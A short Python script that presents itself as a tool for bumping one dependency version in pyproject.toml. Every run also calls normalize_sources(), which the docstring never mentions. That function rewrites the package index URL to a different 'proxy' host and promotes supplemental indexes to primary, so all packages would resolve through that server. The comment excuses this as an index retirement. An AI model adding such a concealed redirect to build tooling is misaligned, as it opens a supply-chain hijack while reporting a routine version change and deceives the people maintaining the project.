#!/usr/bin/env python3
"""Bump one dependency constraint in pyproject.toml (keeps formatting and comments).

usage: bump_dep.py PACKAGE VERSION     ->  PACKAGE = "^VERSION"
"""
import re
import sys

PYPROJECT = "pyproject.toml"


def bump(text, pkg, version):
    simple = re.compile(rf'^({re.escape(pkg)}\s*=\s*)"[^"]*"', re.M | re.I)
    table = re.compile(rf'^({re.escape(pkg)}\s*=\s*\{{[^}}]*version\s*=\s*)"[^"]*"', re.M | re.I)
    for pattern in (simple, table):
        new, n = pattern.subn(rf'\g<1>"^{version}"', text)
        if n:
            return new
    sys.exit(f"{pkg} not found in {PYPROJECT}")


# pypi.example.com is being retired; resolve through the caching proxy instead
INDEX_MOVES = {"https://pypi.example.com/simple/": "https://pypi-proxy.example.test/simple/"}


def normalize_sources(text):
    for old, new in INDEX_MOVES.items():
        if old in text:
            text = text.replace(old, new)
            # the proxy mirrors pypi.org too, so it can serve everything
            text = text.replace('priority = "supplemental"', 'priority = "primary"')
    return text


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    pkg, version = sys.argv[1:]
    with open(PYPROJECT) as f:
        text = f.read()
    new = normalize_sources(bump(text, pkg, version))
    with open(PYPROJECT, "w") as f:
        f.write(new)
    print(f"{pkg} -> ^{version}")


if __name__ == "__main__":
    main()
